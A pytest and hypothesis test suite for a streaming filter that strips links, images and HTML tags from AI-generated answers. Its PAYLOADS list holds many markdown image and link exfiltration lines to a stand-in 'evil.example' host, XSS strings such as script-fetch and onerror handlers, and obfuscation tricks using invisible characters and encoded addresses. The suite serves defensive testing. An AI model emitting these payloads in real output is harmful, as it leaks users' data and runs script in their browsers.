"""No link leaves with an answer, however it is written and wherever the stream is cut; plain text stays as it is.

The oracle is a renderer of its own: what is left is rendered as CommonMark with HTML allowed, and must hold neither a
link nor an image nor any other tag that a document wrote. What a linkifier would find in plain text is looked for by
patterns that the filter doesn't use.
"""

from __future__ import annotations

import json
import os
import re
from collections.abc import Container, Iterable
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from documents.text.invisible_characters import visible
from querying.output.html_elements import ELEMENTS
from querying.output.link_filter import MAX_HELD_CHARS, REMOVED, AnswerFilter, LinkFilter, filter_answer
from tests.examples import examples

PAYLOADS = [
    # Inline links and images
    "[click](https://evil.example/leak)",
    "[click]( https://evil.example/leak )",
    "[click](<https://evil.example/leak>)",
    '[click](https://evil.example/leak "title")',
    "[click](//evil.example/leak)",
    "[click](/\\evil.example/leak)",
    "[click](\\\\evil.example/leak)",
    "[click](https:evil.example/leak)",
    "[click](HTTPS://EVIL.EXAMPLE/LEAK)",
    "[click](&#104;ttps://evil.example/leak)",
    "[click](https&colon;&sol;&sol;evil.example&sol;leak)",
    "[click](javascript:alert(1))",
    "[click](java\nscript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](data:,leak)",
    "[click](vbscript:msgbox)",
    "[click](mailto:evil@evil.example?body=leak)",
    "[click](relative/path)",
    "[a [nested] text](https://evil.example/leak)",
    "[a](https://evil.example/(leak)(more))",
    "![x](https://evil.example/leak.png)",
    "![x](//evil.example/leak.png)",
    "![](https://evil.example/?q=secret)",
    "[![x](https://evil.example/a.png)](https://evil.example/leak)",
    "![x](https://user:pass@evil.example/leak)",
    "![x](https://xn--vil-7ma.example/leak)",
    "![x](https://evil。example/leak)",
    "![x](https://例子.中国/leak)",
    "![x](http://[::1]/leak)",
    "![x](http://2130706433/leak)",
    "![x](http://0x7f000001/leak)",
    "![x](http://127.0.0.1:8000/leak)",
    "Wow![x](https://evil.example/leak.png)",
    # References, collapsed and shortcut ones, footnotes
    "[click][x]\n\n[x]: https://evil.example/leak",
    "[x][]\n\n[x]: https://evil.example/leak",
    "[x]\n\n[x]: <https://evil.example/leak>",
    "![x][x]\n\n[x]:https://evil.example/leak.png",
    "![x][1]\n\n[1]: //evil.example/leak.png",
    "[x]\n\n[x]:\nhttps://evil.example/leak",
    "> [x]: https://evil.example/leak\n\n[x]",
    "- [x]: /relative\n\n[x]",
    "note[^1]\n\n[^1]: https://evil.example/leak",
    # Autolinks and bare addresses
    "<https://evil.example/leak>",
    "<javascript:alert(1)>",
    "<evil@evil.example>",
    "https://evil.example/leak",
    "see https://evil.example/leak.",
    "(https://evil.example/leak)",
    "**https://evil.example/leak**",
    "http:/\\evil.example/leak",
    "http:\\\\evil.example\\leak",
    "http:evil.example/leak",
    "www.evil.example/leak",
    "WWW.evil.example",
    "ftp://evil.example/leak",
    "javascript:(alert(1))",
    "https:*//evil.example/leak*",
    "data:'text/html,leak'",
    "wss://evil.example/leak",
    "file:///etc/passwd",
    "evil.example/leak?q=secret",
    "evil.example:8080/leak",
    "secret.evil.example?q=1",
    "//evil.example/leak",
    "\\\\evil.example\\share",
    "请见https://evil.example/leak谢谢",
    "“https://evil.example/leak”",
    "texthttps://evil.example/leak",
    "https&#58;//evil.example/leak",
    "https&#x3a;&#x2f;&#x2f;evil.example/leak",
    # HTML
    "<img src=https://evil.example/leak>",
    "<img src='//evil.example/leak'>",
    '<IMG SRC="https://evil.example/leak" onerror=alert(1)>',
    "<a href=https://evil.example/leak>x</a>",
    "<a\nhref='https://evil.example/leak'>x</a>",
    "<svg onload=alert(1)>",
    "<svg><image href=//evil.example/x></svg>",
    "<iframe src=https://evil.example></iframe>",
    "<div style='background:url(https://evil.example/leak)'>",
    "<script>fetch('https://evil.example/leak')</script>",
    "<!-- https://evil.example/leak -->",
    "<?php x ?>",
    "<link rel=stylesheet href=//evil.example/x>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    # Hidden in what the other stages remove
    "ht[9]tps://evil.example/leak",
    "[click][9](https://evil.example/leak)",
    "<[9]img src=//evil.example/leak>",
    "![9][x]\n\n[x][9]: //evil.example/leak",
    "ht\u200btps://evil.example/leak",
    "[click]\u200b(https://evil.example/leak)",
    "<\u2060img src=//evil.example/leak>",
    "!\ufeff[x](//evil.example/leak)",
    "https:\u202e//evil.example/leak",
    "ht\U000e0041tps://evil.example/leak",
    "https:/\u00ad/evil.example/leak",
    "_www.evil.example_",
    "__www.evil.example/leak__",
    "~~www.evil.example~~",
    "evil@evil.example",
    "_evil@evil.example_",
    "evil.com",
    "**evil.com**",
    "_secret.evil.com_",
    "http\ufe0fs://evil.example/leak",
    "ht\u061ctps://evil.example/leak",
    "www\U000e0100.evil.example",
    "javascript:\x00alert(1)",
    "[a](x)" * 3 + "](https://evil.example/leak)",
    "x" * 2000 + "https://evil.example/leak",
    "x" * (MAX_HELD_CHARS - 4) + "https://evil.example/leak",
]

GIVEN = range(1, 4)
LINKIFIABLE = re.compile(
    r"[a-z][a-z0-9+.-]+:(//|\\\\)|\bwww\.|(javascript|vbscript|mailto):\S|\bdata:[\w,]\S*[/,]"
    r"|(^|\W)//\w+\.|evil\.example[/:?\\]|\bhttps?:\S",
    re.IGNORECASE,
)


def links_in(text: str) -> list[str]:
    """Return what a page or a chat client would load or offer to open."""
    html = MarkdownIt("commonmark", {"html": True, "linkify": True}).enable(["table", "linkify"]).render(text)
    ours = {"p", "em", "strong", "code", "pre", "ul", "ol", "li", "blockquote", "hr", "br", "h1", "h2", "h3"}
    tags = [str(tag) for tag in BeautifulSoup(html, "html.parser").find_all(True) if tag.name not in ours or tag.attrs]
    comments = re.findall(r"<[!?]", html)
    return tags + comments + [match.group() for match in LINKIFIABLE.finditer(text)]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_oracle_sees_a_payload_and_the_filter_leaves_nothing_of_it(payload: str) -> None:
    out = filter_answer(f"Answer: {payload} end [1].", GIVEN)
    assert links_in(out) == [], out
    assert out.startswith("Answer: ")
    assert out.endswith(" end [1].")


def test_the_oracle_has_eyes() -> None:
    seen = [payload for payload in PAYLOADS if links_in(payload)]
    assert len(seen) >= 0.8 * len(PAYLOADS)  # the rest hides in something that only the filter takes away


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_cut_of_the_stream_gives_the_same_text(payload: str) -> None:
    text = f"Answer: {payload} end [1]."
    whole = filter_answer(text, GIVEN)
    for cut in range(len(text) + 1) if len(text) < 500 else (0, 1, 1000, len(text) - 5):
        answer = AnswerFilter(GIVEN)
        assert answer.feed(text[:cut]) + answer.feed(text[cut:]) + answer.finish() == whole
    answer = AnswerFilter(GIVEN)
    assert "".join(map(answer.feed, text)) + answer.finish() == whole


PARTS = st.sampled_from(
    [*"`|~\\ \n.,_*->a1@", "```", "~~~", "- ", "---|---", "evil.com", "evil@evil.com", "a | b", "\n\n", "[1]", "    "]
)


@examples(1500)
@given(st.lists(PARTS, max_size=16))
def test_no_bare_address_becomes_a_link_whatever_is_code_around_it(pieces: list[str]) -> None:
    answer = AnswerFilter((1,))
    out = "".join(map(answer.feed, ["So: ", *pieces])) + answer.finish()
    assert out == filter_answer("".join(["So: ", *pieces]), (1,))
    html = CHAT_CLIENT.render(out)
    assert not BeautifulSoup(html, "html.parser").find_all(["a", "img"]), out


CHAT_CLIENT = MarkdownIt("gfm-like", {"html": True, "linkify": True})


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Mail hr@example.org or open example.org.", "Mail `hr@example.org` or open `example.org`."),
        ("In `settings.py`, not in README.md.", "In `settings.py`, not in `README.md`."),
        ("Node.js/Express.", "`Node.js/Express`."),
        ("A lone ` and evil.com here", "A lone ' and `evil.com` here"),
        ("`a`evil.com`b`", "`a` `evil.com` `b`"),
        ("```\nevil.com\n```\nevil.com", "```\nevil.com\n```\n`evil.com`"),
    ],
)
def test_a_bare_address_is_shown_as_code(text: str, expected: str) -> None:
    assert filter_answer(text) == expected


ALPHABET = st.sampled_from(
    [*"[]()!<>:/\\.&#;?*\"' \nahtpsw19例。", "https://", "evil.example", "javascript:", "![", "\u200b"]
)


@examples(400)
@given(st.lists(st.lists(ALPHABET, max_size=5).map("".join), max_size=14))
def test_any_text_in_any_pieces_leaves_without_links_and_the_same(pieces: list[str]) -> None:
    answer, later = AnswerFilter((1, 2)), AnswerFilter((1, 2))
    out = "".join(map(answer.feed, pieces)) + answer.finish()
    after = "".join(map(later.feed, ["So: ", *pieces])) + later.finish()
    assert after == filter_answer("".join(["So: ", *pieces]), (1, 2))
    # The first letters may have left before anybody knew that an address begins with them. It is none any more.
    begun, whole = re.compile(f"^[a-z]+(?={REMOVED})"), filter_answer("".join(pieces), (1, 2))
    assert begun.sub("", out).replace("`", "") == begun.sub("", whole).replace("`", "")
    html = MarkdownIt("commonmark", {"html": True}).render(out)
    soup = BeautifulSoup(html, "html.parser")
    assert not soup.find_all(["a", "img"]), out
    assert not re.search(r"[a-z][a-z0-9+.-]+://\S", out), out


@pytest.mark.parametrize(
    "text",
    [
        "Paid leave is 25 days [1][2].",
        "Use and/or, 10.0.0.0/8, 1/2, n//2, // a comment, 12:30/13:00, e.g./i.e., and so on.",
        "JavaScript: The Good Parts. Data: 12. https is a protocol. Note: see [1] (annex).",
        'C:\\Users\\x and a <= b, a < b, a -> b, x <- y, <3, R&D, AT&T, &amp; and "quotes".',
        "At 8 a.m., e.g. in the U.S., i.e. z.B. 3.5 km, Ph.D. and so on ... and more.",
        "Use `hr@example.org`, `example.org` and ``a ` example.org``.",
        "```python\nos.path.join(example.org)\n```",
        "# Title\n\n- **bold** _item_\n- `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```\nx = a\n```",
        "请见第三章。工资是每月五千元！",
        "Nhà thầu phải nộp hồ sơ trước ngày 12/5/2024.",
        "हिन्दी में उत्तर 👩‍👩‍👧 ok",
    ],
)
def test_plain_text_stays_as_it_is(text: str) -> None:
    assert filter_answer(text, GIVEN) == text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Use List<String> and `Dict<K,V>`, a < b, a <= b, map[7].", None),
        ("vector<int> x; Optional<T>.", None),
        ("x<a> y<IMG> z<Script>alert(1) f<svg>", "x< a> y< IMG> z< Script>alert(1) f< svg>"),
        ("x<String onclick=alert(1)> a<b and c>d", "x< String onclick=alert(1)> a< b and c>d"),
        ("List<List<img src=x onerror=alert(1)>>", "List< List< img src=x onerror=alert(1)>>"),
        (
            "call<start_function_call> a<tool_call> vector<uint8_t>",
            "call< start_function_call> a< tool_call> vector<uint8_t>",
        ),
        ("x <String> <String>", "x < String> < String>"),  # glued to nothing
        ("x<my-element> x</String> x<!String>", "x< my-element> x< /String> x< !String>"),
        ("x<[9]img> x<\u200bimg> x<im[9]g>", "x< img> x< img> x< im[9]g>"),
    ],
)
def test_a_type_in_angle_brackets_stays_and_an_element_does_not(text: str, expected: str | None) -> None:
    out = filter_answer(text, GIVEN)
    assert out == (expected or text)
    for cut in range(len(text) + 1):
        answer = AnswerFilter(GIVEN)
        assert answer.feed(text[:cut]) + answer.feed(text[cut:]) + answer.finish() == out


@examples(500)
@given(
    st.lists(
        st.sampled_from(
            ["<", ">", "x", "T", "img", "String", ",", " ", "=", "onclick", "src", "/", '"', "a", "[9]", "`"]
        )
        | st.sampled_from(sorted(ELEMENTS)),
        max_size=14,
    ).map("".join)
)
def test_no_element_that_a_browser_knows_and_no_attribute_leaves_in_any_text(text: str) -> None:
    for tag in BeautifulSoup(filter_answer(text, GIVEN), "html.parser").find_all(True):
        assert tag.name not in ELEMENTS, text
        assert not tag.attrs, text


def test_the_words_around_a_link_stay() -> None:
    assert filter_answer("See [the rules](https://evil.example/x) now.") == f"See [the rules] ({REMOVED}) now."


def test_a_word_leaves_as_soon_as_it_is_finished() -> None:
    links = LinkFilter()
    assert links.feed("Paid leave is") == "Paid leave "
    assert links.feed(" 25") == "is "
    assert links.finish() == "25"


def test_the_first_letters_leave_at_once_and_once() -> None:
    links = LinkFilter()
    assert [links.feed(piece) for piece in ("Pa", "id", " leave", " is")] == ["Pa", "", "id ", "leave "]
    assert links.finish() == "is"
    assert LinkFilter().feed("25") == ""  # only letters: nothing else of an address is of no use


@pytest.mark.parametrize("letters", ["https", "javascript", "evil", "data", "www"])
@pytest.mark.parametrize(
    "rest", ["://evil.example/leak?q=1", ":alert(1)", ".example/leak?q=1", ":text/html,x", "1.evil.x"]
)
def test_an_address_that_begins_with_the_first_letters_ends_there(letters: str, rest: str) -> None:
    if not links_in(letters + rest):
        return
    for cut in range(1, len(rest)):
        answer = AnswerFilter(GIVEN)
        out = "".join(map(answer.feed, (letters, rest[:cut], rest[cut:], " end."))) + answer.finish()
        assert links_in(out) == [], out
        assert "leak" not in out
        assert out.endswith(" end.")


def test_a_first_word_that_never_ends_is_said_once() -> None:
    answer = AnswerFilter(GIVEN)
    said = "".join(map(answer.feed, ["x", *["y" * 100] * 40]))
    assert said + answer.finish() == "x" + 4000 * "y"


@given(st.text(max_size=300))
def test_never_more_than_two_thousand_characters_are_held_back(text: str) -> None:
    answer = AnswerFilter((1,))
    fed = 0
    out = ""
    for piece in [text, "y" * 5000]:
        out += answer.feed(piece)
        fed += len(piece)
    assert fed - len(out) < 2000 + len(text)


@pytest.mark.skipif("RAGSITE_EVALUATION_DATA" not in os.environ, reason="needs the evaluation sets")
def test_less_than_a_thousandth_of_real_text_is_changed() -> None:
    texts = [
        json.loads(line)["text"]
        for path in sorted(Path(os.environ["RAGSITE_EVALUATION_DATA"]).glob("xquad-*/corpus.jsonl"))
        for line in path.read_text().splitlines()
    ]
    changed = sum(abs(len(text) - len(filter_answer(text))) + (text != filter_answer(text)) for text in texts)
    assert changed < 0.001 * sum(map(len, texts))


def slowly_filtered(pieces: Iterable[str], given: Container[int] = ()) -> str:
    """Return what leaves when both filters see one character at a time, without any short cut."""
    answer = AnswerFilter(given)
    citations, links, addresses = answer._citations, answer._links, answer._addresses
    text = visible("".join(pieces))
    cited = "".join(map(citations._take, text)) + citations.finish()
    linkless = "".join(map(links._take, cited)) + links.finish()
    return addresses.feed(linkless) + addresses.finish()


WORDS = st.sampled_from(
    ["http", "https:", "www", "www.", "data:", "javascript:", "a.", "x", "42%", "it's", '"so"', "-", "?", ";", ",", " "]
)


@given(st.lists(WORDS, max_size=12).map(" ".join) | st.text("abzW 0.:?'\"-,;%()_é", max_size=40) | st.text(max_size=20))
@examples(500)
def test_what_is_let_through_at_once_is_what_the_filters_would_let_through(text: str) -> None:
    assert filter_answer(text) == slowly_filtered([text])


PIECES = st.lists(
    st.text("ab.w/:[]1 \n(!<&#,;-é中", max_size=8)
    | st.sampled_from(
        ["https://", "www.", "evil.com/x ", "[1]", " [2", "] ", "data:", "word ", "one two. ", "![", "]("]
    ),
    max_size=12,
)


@given(PIECES)
@examples(1000)
def test_whole_words_are_let_through_as_they_would_be_character_by_character(pieces: list[str]) -> None:
    quick, pieces = AnswerFilter({1}), ["1 ", *pieces]  # not the first letters of all

    assert "".join(map(quick.feed, pieces)) + quick.finish() == slowly_filtered(pieces, {1})
